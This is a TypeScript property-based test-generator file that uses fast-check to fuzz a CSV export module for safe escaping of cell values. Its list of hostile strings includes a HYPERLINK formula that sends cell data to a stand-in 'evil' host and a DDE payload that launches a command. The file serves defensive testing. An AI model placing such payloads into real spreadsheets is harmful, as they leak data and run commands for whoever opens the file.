import * as fc from 'fast-check';
import type { Cell } from '../../../lib/export/csv.ts';

// prettier-ignore
const nasty = fc.constantFrom(
  '=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '\0', '＝', '＋', '－', '＠', "'", '"', ',', ';', ' ',
  '\u00a0', '\u200b', '\u200e', '\u202e', '\u2066', '\ufeff', '\u3000', '\u00ad', 'x', '1', 'ñ', '🙂', '\u2028',
  '=HYPERLINK("http://evil.example/?"&A1)', 'a;=1+1', '001234', '0', '-5', '+1-202-555-0100', "''",
  '007', '1e5', 'TRUE', '2026-01-05', '1/2', '=1+1', '@SUM(1+1)', "=cmd|' /C calc'!A0", '\u0001', '\u001f', '\u007f',
);

/** Text as people, pages and attackers write it. */
export const text: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.array(nasty, { maxLength: 6 }).map((parts) => parts.join('')),
);

function rowWith(number: fc.Arbitrary<number>): fc.Arbitrary<Cell[]> {
  const cell: fc.Arbitrary<Cell> = fc.oneof(
    { weight: 5, arbitrary: text },
    { weight: 1, arbitrary: number },
    { weight: 1, arbitrary: fc.constant(null) },
  );
  return fc.array(cell, { minLength: 3, maxLength: 3 });
}

/** One row of three cells, with whatever number there is. */
export const row = rowWith(fc.double({ noNaN: true, noDefaultInfinity: true }));

/** The same with counts and rates, fine and large enough for any school: spreadsheets keep 15 digits, and no extremes. */
export const countedRow = rowWith(
  fc.integer({ min: -1_000_000_000, max: 1_000_000_000 }).map((number) => number / 64),
);
